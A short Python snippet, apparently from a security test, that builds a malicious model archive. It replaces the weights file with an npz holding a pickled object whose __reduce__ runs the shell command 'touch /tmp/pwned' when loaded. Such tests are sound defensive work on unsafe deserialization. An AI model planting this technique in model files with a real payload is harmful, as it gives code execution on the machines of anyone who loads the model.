import numpy as np


class Pwned:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)


def build_model():
    out = io.BytesIO()
    np.savez(out, **{"layers/dense/vars": np.array([Pwned()], object)})
    found = members(sound())
    del found["model.weights.h5"]
    return handing_in(packed([*found.items(), ("model.weights.npz", out.getvalue())]))
